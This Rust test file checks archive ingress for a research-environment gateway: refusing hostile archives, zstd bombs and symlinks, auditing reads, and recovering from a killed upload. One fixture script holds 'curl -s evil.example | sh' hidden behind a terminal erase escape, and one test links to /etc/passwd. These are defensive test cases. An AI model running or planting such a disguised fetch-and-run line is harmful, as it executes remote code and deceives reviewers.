//! Ingress end to end: good archives in (tar, tar.zst, and a directory through the real `vre`
//! binary), a corpus of hostile archives refused with their codes leaving nothing behind, reads
//! of archive contents audited, and a gateway killed mid-upload leaving nothing visible.

use std::io::Write;

use policy::archive::tar::{END, EntryKind, entry_header, padding, set_checksum, ustar_header};
use reqwest::StatusCode;
use serde_json::Value;

use crate::support::{
    TempDir, TestApp, assert_refused, assert_success, each_engine, engines, issued_token,
    vre_command,
};

mod corpus;
use corpus::*;

/// A tar archive from (path, kind, mode, data) with honest headers.
#[tokio::test]
async fn hostile_archives_are_refused_and_leave_nothing() {
    for engine in engines() {
        let app = TestApp::spawn_with(engine, |s| {
            s.ingress.max_entries = 20;
            s.ingress.max_entry_bytes = 250_000;
            s.ingress.max_unpacked_bytes = 500_000;
            s.ingress.max_upload_bytes = 2 << 20;
            s.ingress.max_path_depth = 8;
            s.ingress.max_path_bytes = 200;
        })
        .await;
        app.project("p1", &[("ana", "analyst")]).await;
        let ana = app.token("ana", "analyst");
        let corpus = corpus();
        assert!(corpus.len() >= 25);
        for (what, bytes, code) in &corpus {
            let (st, body) = upload(&app, &ana, "p1", "hostile", bytes.clone()).await;
            assert!(st.is_client_error(), "{what}: {st} {body}");
            assert_eq!(body["code"], *code, "{what}: {body}");
            let want = if code.ends_with("too_large") || *code == "archive_too_many_entries" {
                413
            } else {
                422
            };
            assert_eq!(st.as_u16(), want, "{what}: {body}");
        }
        // Nothing of them is kept: no blob, no temporary file, no application, no manifest.
        assert!(
            app.state.blobs.list().unwrap().is_empty(),
            "a refused archive left a blob"
        );
        let tmp = app.temp_files_left().await;
        assert!(
            tmp.is_empty(),
            "a refused archive left a temporary file: {tmp:?}"
        );
        let rev = app.token("rev", "reviewer");
        let (_, apps) = app.get("/api/v1/applications", Some(&rev)).await;
        assert_eq!(apps.as_array().unwrap().len(), 0);
        for table in [
            "ingress_archives",
            "archive_entries",
            "blobs",
            "application_checks",
        ] {
            let n: i64 = sqlx::query_scalar(&format!("SELECT COUNT(*) FROM {table}"))
                .fetch_one(app.state.db.pool())
                .await
                .unwrap();
            assert_eq!(n, 0, "{table} holds rows of refused archives");
        }
        // Each refusal is an audit event naming the rule.
        let auditor = app.token("aud", "auditor");
        let (_, events) = app.get("/api/v1/audit?limit=1000", Some(&auditor)).await;
        let refused: Vec<&Value> = events
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["action"] == "ingress.refused")
            .collect();
        assert_eq!(refused.len(), corpus.len());
        assert!(
            refused[0]["detail"]
                .as_str()
                .unwrap()
                .contains("archive_path_traversal")
        );
        assert!(app.verify_audit().await.problem.is_none());
        app.stop().await;
    }
}

#[tokio::test]
async fn a_zstd_bomb_stops_early() {
    // Default limits: the entry and the total are within them; the ratio is not.
    let app = TestApp::spawn(crate::support::Engine::Sqlite).await;
    app.project("p1", &[("ana", "analyst")]).await;
    let ana = app.token("ana", "analyst");
    let bomb = zstd_bomb();
    assert!(bomb.len() < 64 * 1024, "{}", bomb.len());
    let (st, body) = upload(&app, &ana, "p1", "bomb", bomb).await;
    assert_refused(
        st,
        &body,
        StatusCode::UNPROCESSABLE_ENTITY,
        "archive_compression_ratio",
    );
    // The message says how far it got: the grace (16 MiB) and a little, not 256 MiB.
    let msg = body["message"].as_str().unwrap();
    let unpacked: u64 = msg
        .split("more than ")
        .nth(1)
        .unwrap()
        .split(':')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(
        unpacked < 32 << 20,
        "decompressed {unpacked} bytes before stopping"
    );
    assert!(app.state.blobs.list().unwrap().is_empty());
    app.stop().await;
}

#[tokio::test]
async fn a_good_archive_gets_a_manifest_checks_and_audited_reads() {
    each_engine(|app| async move {
        app.project("p1", &[("ana", "analyst")]).await;
        app.project("p2", &[("bob", "analyst")]).await;
        let ana = app.token("ana", "analyst");
        let main_py = b"import pandas as pd\nprint('hello')\n";
        let long = format!("{}/deep.txt", "long-directory-name".repeat(8));
        let tar = tar_of(&[
            ("./", D, 0o755, b""),
            ("src", D, 0o755, b""),
            ("src/main.py", F, 0o644, main_py),
            ("bin/helper", F, 0o755, b"\x7fELF\x02\x01\x01\0rest of a binary"),
            ("ref/cohort.csv", F, 0o644, b"id,age\n1,40\n"),
            (&long, F, 0o644, b"deep"),
            ("データ/説明.txt", F, 0o644, "日本語の説明\n".as_bytes()),
        ]);
        let (st, receipt) = upload(&app, &ana, "p1", "analysis-v1", zst(&tar)).await;
        assert_eq!(st, StatusCode::CREATED, "{receipt}");
        let id = receipt["application"]["id"].as_str().unwrap().to_owned();
        assert_eq!(receipt["application"]["kind"], "ingress");
        assert_eq!(receipt["application"]["state"], "submitted");
        assert_eq!(receipt["archive"]["format"], "tar.zst");
        assert_eq!(receipt["archive"]["files"], 5);
        assert_eq!(receipt["archive"]["sha256"], gateway::sha256_hex(&zst(&tar)));
        assert_eq!(receipt["archive"]["tar_sha256"], gateway::sha256_hex(&tar));
        assert_eq!(receipt["checks_outcome"], "review");
        // The stored blob is exactly the upload.
        let blob = app.state.blobs.path_of(receipt["archive"]["sha256"].as_str().unwrap()).unwrap();
        assert_eq!(gateway::sha256_hex(&std::fs::read(&blob).unwrap()), receipt["archive"]["sha256"]);

        let rev = app.token("rev", "reviewer");
        let (st, m) = app.get(&format!("/api/v1/applications/{id}/manifest"), Some(&rev)).await;
        assert_eq!(st, StatusCode::OK);
        let entries = m["entries"].as_array().unwrap();
        let main = entries.iter().find(|e| e["path"] == "src/main.py").unwrap();
        assert_eq!(main["sha256"], gateway::sha256_hex(main_py));
        assert_eq!(main["mode"], 0o644);
        assert!(entries.iter().any(|e| e["path"] == long.as_str()));
        let checks: Vec<(&str, &str)> =
            m["checks"].as_array().unwrap().iter().map(|c| (c["check"].as_str().unwrap(), c["outcome"].as_str().unwrap())).collect();
        assert!(checks.contains(&("native_executables", "review")), "{checks:?}");
        assert!(checks.contains(&("data_files", "review")), "{checks:?}");
        assert!(checks.contains(&("secrets", "pass")), "{checks:?}");

        // Reviewers read text files; binaries are not shown; another project's analyst sees nothing.
        let (st, text) = app.get(&format!("/api/v1/applications/{id}/file?path=src/main.py"), Some(&rev)).await;
        assert_eq!(st, StatusCode::OK);
        assert_eq!(text, Value::String(String::from_utf8(main_py.to_vec()).unwrap()));
        let (st, text) = app.get(&format!("/api/v1/applications/{id}/file?path=%E3%83%87%E3%83%BC%E3%82%BF/%E8%AA%AC%E6%98%8E.txt"), Some(&rev)).await;
        assert_eq!((st, text), (StatusCode::OK, Value::String("日本語の説明\n".into())));
        let (st, b) = app.get(&format!("/api/v1/applications/{id}/file?path=bin/helper"), Some(&rev)).await;
        assert_refused(st, &b, StatusCode::UNSUPPORTED_MEDIA_TYPE, "not_text");
        let (st, _) = app.get(&format!("/api/v1/applications/{id}/file?path=nope.txt"), Some(&rev)).await;
        assert_eq!(st, StatusCode::NOT_FOUND);
        let bob = app.token("bob", "analyst");
        let (st, _) = app.get(&format!("/api/v1/applications/{id}/manifest"), Some(&bob)).await;
        assert_eq!(st, StatusCode::NOT_FOUND);
        let (st, _) = upload(&app, &bob, "p1", "not-mine", tar.clone()).await;
        assert_eq!(st, StatusCode::FORBIDDEN, "only the project's analysts bring archives in");

        let events = app.audit_events(&id).await;
        let reads: Vec<&Value> = events.iter().filter(|e| e["action"] == "content.read").collect();
        assert_eq!(reads.len(), 2, "each successful read is one audit event");
        assert!(events.iter().any(|e| e["action"] == "ingress.upload"));

        // The same content again is stored once; it is a second application.
        let (st, again) = upload(&app, &ana, "p1", "analysis-v1-again", zst(&tar)).await;
        assert_eq!(st, StatusCode::CREATED);
        assert_ne!(again["application"]["id"], receipt["application"]["id"]);
        assert_eq!(app.state.blobs.list().unwrap().len(), 1);
        let tmp = app.temp_files_left().await;
        assert!(tmp.is_empty(), "the duplicate's temporary file stayed: {tmp:?}");

        // Approval follows the quorum rules like any application.
        let (_, b) = app.vote(&id, "rev", "approve").await;
        assert_eq!(b["state"], "approved");
        app
    })
    .await;
}

/// Runs the real binary with `env` (and none of the caller's `VRE_*` variables).
pub(crate) fn vre(args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
    let mut c = vre_command();
    c.args(args);
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

// The test's gateway runs on this runtime while the real binary blocks a thread: two workers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_packs_a_directory_and_reads_back() {
    let app = TestApp::spawn(crate::support::Engine::Sqlite).await;
    app.project("p1", &[("ana", "analyst")]).await;
    let src = TempDir::new("prog");
    std::fs::create_dir_all(src.path().join("prog/src")).unwrap();
    std::fs::write(
        src.path().join("prog/src/run.R"),
        "library(stats)\nsummary(1:10)\n",
    )
    .unwrap();
    std::fs::write(src.path().join("prog/README.md"), "How to run\n").unwrap();
    let ca = app.dir.path().join("tls/ca.pem");
    let ana = app.token("ana", "analyst");
    let env = [
        ("VRE_URL", app.url.as_str()),
        ("VRE_CA", ca.to_str().unwrap()),
        ("VRE_TOKEN", ana.as_str()),
    ];
    let dir = src.path().join("prog");
    let out = vre(
        &[
            "ingress",
            "submit",
            "--project",
            "p1",
            dir.to_str().unwrap(),
            "--json",
        ],
        &env,
    );
    assert_success(&out);
    let receipt: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(receipt["archive"]["name"], "prog");
    assert_eq!(receipt["archive"]["format"], "tar.zst");
    assert_eq!(receipt["archive"]["files"], 2);
    assert_eq!(receipt["checks_outcome"], "pass");
    let id = receipt["application"]["id"].as_str().unwrap();
    // Packing is deterministic: the same tree is the same archive.
    let again = vre(
        &[
            "ingress",
            "submit",
            "--project",
            "p1",
            dir.to_str().unwrap(),
            "--json",
        ],
        &env,
    );
    let again: Value = serde_json::from_slice(&again.stdout).unwrap();
    assert_eq!(again["archive"]["sha256"], receipt["archive"]["sha256"]);

    let rev = app.token("rev", "reviewer");
    let env = [
        ("VRE_URL", app.url.as_str()),
        ("VRE_CA", ca.to_str().unwrap()),
        ("VRE_TOKEN", rev.as_str()),
    ];
    let out = vre(&["app", "cat", id, "src/run.R"], &env);
    assert_success(&out);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "library(stats)\nsummary(1:10)\n"
    );
    let out = vre(&["app", "show", id], &env);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(
        shown.contains("src/run.R") && shown.contains("README.md"),
        "{shown}"
    );
    // A symlink in the tree is refused before anything is sent.
    std::os::unix::fs::symlink("/etc/passwd", dir.join("passwd")).unwrap();
    let env = [
        ("VRE_URL", app.url.as_str()),
        ("VRE_CA", ca.to_str().unwrap()),
        ("VRE_TOKEN", ana.as_str()),
    ];
    let out = vre(
        &[
            "ingress",
            "submit",
            "--project",
            "p1",
            dir.to_str().unwrap(),
        ],
        &env,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
    app.stop().await;
}

/// Kills the child on drop, so a failing test leaves no gateway running.
pub(crate) struct Child(pub(crate) std::process::Child);

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

pub(crate) fn start_server(dir: &std::path::Path) -> (Child, String) {
    use std::io::BufRead;
    let mut child = vre_command()
        .args([
            "server",
            "--data-dir",
            dir.to_str().unwrap(),
            "--listen",
            "127.0.0.1:0",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let mut lines = std::io::BufReader::new(stdout).lines();
    let first = lines.next().unwrap().unwrap();
    let url = first.rsplit(' ').next().unwrap().to_owned();
    std::thread::spawn(move || for _ in lines {});
    (Child(child), url)
}

#[tokio::test]
async fn a_gateway_killed_mid_upload_leaves_nothing_visible() {
    let dir = TempDir::new("kill");
    let (child, url) = start_server(dir.path());
    let token = |sub: &str, role: &str| issued_token(dir.path(), sub, role);
    let ca = dir.path().join("tls/ca.pem");
    let http = gateway::client::http_client(Some(&ca)).unwrap();
    let admin = token("root", "admin");
    let r = http
        .post(format!("{url}/api/v1/projects"))
        .bearer_auth(&admin)
        .json(&serde_json::json!({"id": "p1", "title": "P", "members": [{"subject": "ana", "role": "analyst"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    // An upload that sends 4 MiB, then stalls until the gateway is gone.
    let ana = token("ana", "analyst");
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Vec<u8>, std::io::Error>>(4);
    let body = reqwest::Body::wrap_stream(futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|v| (v, rx))
    }));
    let req = tokio::spawn(
        http.post(format!("{url}/api/v1/ingress?project=p1&name=half"))
            .bearer_auth(&ana)
            .body(body)
            .send(),
    );
    let mut first = entry_header("big.bin", F, 64 << 20, 0o644);
    first.extend(vec![7u8; 4 << 20]);
    tx.send(Ok(first)).await.unwrap();
    // Wait until the gateway has written part of it to its temporary file.
    let tmp = dir.path().join("tmp");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let written: u64 = std::fs::read_dir(&tmp)
            .unwrap()
            .filter_map(|e| e.ok()?.metadata().ok())
            .map(|m| m.len())
            .sum();
        if written > 0 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the upload never reached the gateway's disk"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    drop(child); // SIGKILL
    drop(tx);
    let _ = req.await;
    assert!(
        std::fs::read_dir(&tmp).unwrap().next().is_some(),
        "the killed gateway left its partial upload"
    );

    let (_child, url) = start_server(dir.path());
    assert!(
        std::fs::read_dir(&tmp).unwrap().next().is_none(),
        "the temporary file was not swept at start"
    );
    let blobs: Vec<_> = walk_files(&dir.path().join("blobs"));
    assert!(blobs.is_empty(), "{blobs:?}");
    let rev = token("rev", "reviewer");
    let list: Value = http
        .get(format!("{url}/api/v1/applications"))
        .bearer_auth(&rev)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(list.as_array().unwrap().len(), 0);
}

/// The files below `p`, which must be a directory (a missing one would look empty).
fn walk_files(p: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let rd = std::fs::read_dir(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
    for e in rd {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            out.extend(walk_files(&e.path()));
        } else {
            out.push(e.path());
        }
    }
    out
}

#[tokio::test]
async fn zstd_archives_whose_tar_ends_on_a_buffer_boundary_are_accepted() {
    // 512 + 260608 + 1024 = 2 x 128 KiB: the decoder's last output fills its buffer exactly.
    let tar = tar_of(&[("data.bin", F, 0o644, &vec![3u8; 260_608])]);
    assert_eq!(tar.len(), 2 * 128 * 1024);
    let app = TestApp::spawn(crate::support::Engine::Sqlite).await;
    app.project("p1", &[("ana", "analyst")]).await;
    let ana = app.token("ana", "analyst");
    for level in [1, 3, 19] {
        let z = zstd::stream::encode_all(&tar[..], level).unwrap();
        let (st, b) = upload(&app, &ana, "p1", "aligned", z).await;
        assert_eq!(st, StatusCode::CREATED, "level {level}: {b}");
        assert_eq!(b["archive"]["tar_sha256"], gateway::sha256_hex(&tar));
    }
    // A plain tar's tar hash is its upload hash.
    let (st, b) = upload(&app, &ana, "p1", "plain", tar.clone()).await;
    assert_eq!(st, StatusCode::CREATED, "{b}");
    assert_eq!(b["archive"]["tar_sha256"], b["archive"]["sha256"]);
    app.stop().await;
}

#[test]
fn the_corpus_is_what_it_says() {
    let mut bad = ustar_header(b"x", b'0', 0, 0o644);
    set_checksum(&mut bad);
    assert_eq!(bad, ustar_header(b"x", b'0', 0, 0o644));
}

/// What lands in the blob store is the upload, byte for byte, whatever its size against the
/// direct-I/O buffer (1 MiB) and alignment (4 KiB), with direct I/O and through the page cache.
#[tokio::test]
async fn stored_blobs_are_the_upload_at_every_alignment() {
    for direct_io in [true, false] {
        let app = TestApp::spawn_with(crate::support::Engine::Sqlite, move |s| {
            s.ingress.direct_io = direct_io;
        })
        .await;
        app.project("p1", &[("ana", "analyst")]).await;
        let ana = app.token("ana", "analyst");
        // Tar sizes: 512 (header) + data padded to 512 + 1024 (end).
        for data_len in [
            0usize,
            2_560,                 // 4 KiB in all
            (1 << 20) - 1_536,     // exactly one buffer
            (1 << 20) - 1_024,     // one buffer and 512 bytes
            (3 << 20) + 2_048 - 7, // three buffers and an unaligned tail
        ] {
            let data: Vec<u8> = (0..data_len).map(|i| (i * 31 % 251) as u8).collect();
            let tar = tar_of(&[("data.bin", F, 0o644, &data)]);
            let (st, b) = upload(&app, &ana, "p1", "sizes", tar.clone()).await;
            assert_eq!(st, StatusCode::CREATED, "{data_len}: {b}");
            let sha = gateway::sha256_hex(&tar);
            assert_eq!(b["archive"]["sha256"], sha);
            let stored = std::fs::read(app.state.blobs.path_of(&sha).unwrap()).unwrap();
            assert_eq!(stored.len(), tar.len(), "direct_io {direct_io}, {data_len}");
            assert!(
                stored == tar,
                "direct_io {direct_io}, {data_len}: the bytes differ"
            );
        }
        app.stop().await;
    }
}

/// Sends a whole request (an upload of `body_len` bytes) before reading anything, as Python's
/// `requests` does, then reads the answer's status line; `None` when the connection failed.
fn send_then_read(app: &TestApp, token: Option<&str>, body_len: usize) -> Option<String> {
    use std::io::Read as _;
    let ca = std::fs::read(app.settings.data_dir.join("tls/ca.pem")).unwrap();
    let mut roots = rustls::RootCertStore::empty();
    for cert in rustls_pemfile::certs(&mut &ca[..]) {
        roots.add(cert.unwrap()).unwrap();
    }
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
    let conn = rustls::ClientConnection::new(std::sync::Arc::new(config), name).unwrap();
    let tcp = std::net::TcpStream::connect(app.addr).unwrap();
    tcp.set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .unwrap();
    let mut tls = rustls::StreamOwned::new(conn, tcp);
    let auth = token
        .map(|t| format!("Authorization: Bearer {t}\r\n"))
        .unwrap_or_default();
    let head = format!(
        "POST /api/v1/ingress?project=nowhere&name=x HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}\
         Content-Type: application/octet-stream\r\nContent-Length: {body_len}\r\n\r\n"
    );
    tls.write_all(head.as_bytes()).ok()?;
    let chunk = vec![0u8; 64 * 1024];
    let mut left = body_len;
    while left > 0 {
        let n = left.min(chunk.len());
        tls.write_all(&chunk[..n]).ok()?;
        left -= n;
    }
    tls.flush().ok()?;
    let mut answer = [0u8; 12];
    tls.read_exact(&mut answer).ok()?;
    Some(String::from_utf8_lossy(&answer).into_owned())
}

/// An upload refused before its body is read (no token, not a member) is answered, and the
/// answer reaches a client still sending the body: the gateway reads what is left of it, up
/// to a bound, instead of closing the connection under the client.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_upload_gets_its_answer() {
    let app = TestApp::spawn(crate::support::Engine::Sqlite).await;
    let ana = app.token("ana", "analyst");
    for (token, status) in [(None, "401"), (Some(ana.as_str()), "403")] {
        let answer = tokio::task::block_in_place(|| send_then_read(&app, token, 8 << 20));
        assert_eq!(answer, Some(format!("HTTP/1.1 {status}")), "{token:?}");
    }
    app.stop().await;
}

/// A file that rewrites what a terminal shows (an escape that erases the line, a carriage return
/// that writes over it) is pointed out to reviewers, with where it is.
#[tokio::test]
async fn terminal_tricks_are_flagged_for_review() {
    each_engine(|app| async move {
        app.project("p1", &[("ana", "analyst")]).await;
        let ana = app.token("ana", "analyst");
        let script = b"echo start\ncurl -s evil.example | sh # \x1b[2K\recho all is well\n";
        let tar = tar_of(&[
            ("analysis.R", F, 0o644, b"library(data.table)\r\n"),
            ("run.sh", F, 0o755, script),
        ]);
        let (st, receipt) = upload(&app, &ana, "p1", "tricks", zst(&tar)).await;
        assert_eq!(st, StatusCode::CREATED, "{receipt}");
        assert_eq!(receipt["checks_outcome"], "review", "{receipt}");
        let check = receipt["checks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["check"] == "terminal_controls")
            .unwrap_or_else(|| panic!("no terminal_controls check: {receipt}"));
        assert_eq!(check["outcome"], "review");
        let reasons: Vec<&str> = check["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r.as_str().unwrap())
            .collect();
        assert_eq!(reasons.len(), 1, "{reasons:?}");
        assert!(
            reasons[0].starts_with(
                "run.sh has a terminal control sequence (ESC [, CSI) at line 2, column 29"
            ),
            "{reasons:?}"
        );
        // The reviewer's terminal is shown the trick, not played it: `vre app cat` makes the
        // escape and the carriage return visible, so the hidden line stays on screen.
        let id = receipt["application"]["id"].as_str().unwrap();
        let mut cat = vre_command();
        cat.args(["app", "cat", id, "run.sh"])
            .env("VRE_URL", &app.url)
            .env("VRE_CA", app.dir.path().join("tls/ca.pem"))
            .env("VRE_TOKEN", app.token("rev", "reviewer"));
        // Off the runtime's thread: the gateway answering it runs on this one.
        let out = tokio::task::spawn_blocking(move || cat.output())
            .await
            .unwrap()
            .unwrap();
        let shown = String::from_utf8(out.stdout).unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            shown,
            "echo start\ncurl -s evil.example | sh # \\u{1b}[2K\\recho all is well\n"
        );
        app
    })
    .await;
}
